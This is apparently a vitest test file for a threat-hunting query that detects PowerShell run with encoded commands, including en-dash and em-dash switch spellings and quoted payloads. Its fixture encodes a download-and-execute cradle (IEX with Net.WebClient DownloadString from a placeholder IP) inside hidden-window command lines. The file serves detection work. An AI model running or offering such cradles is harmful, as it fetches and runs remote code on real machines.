import { describe, expect, it } from 'vitest';
import { accountsIn, processCreated } from './support/device-rows.ts';
import { huntRows, type Row } from './support/run-on-rows.ts';

const POWERSHELL = 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe';
// `IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.50/a')` as -EncodedCommand takes it: UTF-16LE.
const PAYLOAD = Buffer.from(
  "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.50/a')",
  'utf16le',
).toString('base64');

const as = (account: string, image: string, commandLine: string): Row =>
  processCreated(60, image, commandLine, 'C:\\Windows\\System32\\cmd.exe', { AccountName: account });

const found = async (rows: Row[]) => accountsIn(await huntRows('encoded-powershell', { DeviceProcessEvents: rows }));

describe('/hunt encoded-powershell on the switch spellings PowerShell accepts', () => {
  it('finds -EncodedCommand given with an en dash or em dash, which PowerShell takes for a hyphen', async () => {
    const rows = [
      as('endash', POWERSHELL, `powershell.exe -NoP -W Hidden \u2013enc ${PAYLOAD}`),
      as('emdash', 'C:\\Program Files\\PowerShell\\7\\pwsh.exe', `"pwsh.exe" \u2014e ${PAYLOAD}`),
    ];
    expect((await found(rows)).sort()).toEqual(['emdash', 'endash']);
  });

  it('finds the payload given in quotes after -ec', async () => {
    expect(await found([as('quoted', POWERSHELL, `PowerShell.EXE -ec "${PAYLOAD}"`)])).toEqual(['quoted']);
  });

  it('reads the payload that follows the switch, not a token before it', async () => {
    const findings = await huntRows('encoded-powershell', {
      DeviceProcessEvents: [
        as(
          'after',
          POWERSHELL,
          `powershell.exe -File C:\\ProgramData\\ContosoInventoryCollectorAgentScriptsForWorkstations\\run.ps1 -e ${PAYLOAD}`,
        ),
      ],
    });
    expect(JSON.stringify(findings.map((finding) => finding.fields.DecodedCommands))).toContain('DownloadString');
  });

  it('reports no curl call whose -e is a referer, however long its bearer token', async () => {
    const header = Buffer.from('{"alg":"RS256","kid":"CONTOSO2026SIGNINGKEY01","typ":"JWT","x5t":"CONTOSO2026"}');
    const token = `${header.toString('base64url')}.eyJhdWQiOiJjb250b3NvIn0.sig`;
    const curl = `curl.exe -s -e https://portal.contoso.example -H "Authorization: Bearer ${token}" https://api.contoso.example/v1/items`;
    expect(await found([as('curl', 'C:\\Windows\\System32\\curl.exe', curl)])).toEqual([]);
  });
});
